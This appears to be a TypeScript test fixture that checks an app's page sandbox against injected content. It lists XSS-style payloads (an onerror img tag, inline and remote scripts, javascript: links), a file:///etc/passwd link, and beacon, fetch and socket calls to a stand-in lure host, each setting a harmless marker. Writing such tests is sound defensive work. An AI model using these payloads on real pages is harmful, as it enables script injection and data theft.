/** Marks the page when something got through that should not have. */
interface Marked {
  got?: number
}
declare global {
  interface Window extends Marked {}
}

/**
 * What an injected text could add to the page for a person to click on. Each would show itself, or reach the lure, if
 * it worked. Each runs inside the page and so holds all it needs.
 */
export const baits: Record<string, (lure: string) => HTMLElement> = {
  'a javascript: link': () => Object.assign(document.createElement('a'), { href: 'javascript:window.got=1' }),
  'a link elsewhere': (lure) => Object.assign(document.createElement('a'), { href: `http://${lure}/link` }),
  'a link to a new window': (lure) =>
    Object.assign(document.createElement('a'), { href: `http://${lure}/new`, target: '_blank' }),
  'a link to a file': () => Object.assign(document.createElement('a'), { href: 'file:///etc/passwd' }),
  'a link to another host of ours': () =>
    Object.assign(document.createElement('a'), { href: 'app://other/' }),
  'a download from elsewhere': (lure) =>
    Object.assign(document.createElement('a'), { href: `http://${lure}/file`, download: 'x' }),
  'a form': (lure) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${lure}/form` })
    form.append(document.createElement('button'))
    return form
  },
  'a form inside': () => {
    const form = Object.assign(document.createElement('form'), { action: 'app://murmuration/x' })
    form.append(document.createElement('button'))
    return form
  },
}

/** What a script that was injected could try when a person clicks. */
export const tricks: Record<string, (lure: string) => void> = {
  'an inline handler': () => {
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.got = 1')
    image.src = 'app://murmuration/none.png'
    document.body.append(image)
  },
  'a window by script': (lure) => {
    if (window.open(`http://${lure}/open`)) window.got = 1
  },
  'a way by script': (lure) => {
    location.href = `http://${lure}/way`
  },
  'a script as text': () => {
    const script = document.createElement('script')
    script.text = 'window.got = 1'
    document.body.append(script)
  },
  'a script from elsewhere': (lure) => {
    const script = document.createElement('script')
    script.src = `http://${lure}/s.js`
    document.body.append(script)
  },
  'text as markup': () => {
    document.body.innerHTML = '<img src=x onerror=window.got=1>'
  },
  'text as code': () => {
    Reflect.apply(setTimeout, window, ['window.got = 1', 0])
  },
  'a worker from a blob': () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
    worker.addEventListener('message', () => (window.got = 1))
  },
  'a frame': () => {
    const frame = document.createElement('iframe')
    frame.src = 'app://murmuration/'
    frame.addEventListener('load', () => {
      if (frame.contentDocument?.querySelector('#app')) window.got = 1
    })
    document.body.append(frame)
  },
  'a webview': (lure) => {
    const view = document.createElement('webview')
    view.setAttribute('src', `http://${lure}/webview`)
    document.body.append(view)
    if ('getWebContentsId' in view) window.got = 1
  },
  'a question to a server': (lure) => {
    fetch(`http://${lure}/fetch`).then(
      () => (window.got = 1),
      () => undefined,
    )
  },
  'a socket': (lure) => {
    const socket = new WebSocket(`ws://${lure}/socket`)
    socket.addEventListener('open', () => (window.got = 1))
  },
  'a beacon': (lure) => {
    navigator.sendBeacon(`http://${lure}/beacon`, 'x')
  },
  'a picture': (lure) => {
    const image = new Image()
    image.addEventListener('load', () => (window.got = 1))
    image.src = `http://${lure}/i.png`
    document.body.append(image)
  },
  'a style': () => {
    const style = document.createElement('style')
    style.textContent = 'body { --got: 1 }'
    document.head.append(style)
    if (getComputedStyle(document.body).getPropertyValue('--got')) window.got = 1
  },
  'a prefetch': (lure) => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = `http://${lure}/prefetch`
    document.head.append(link)
  },
}
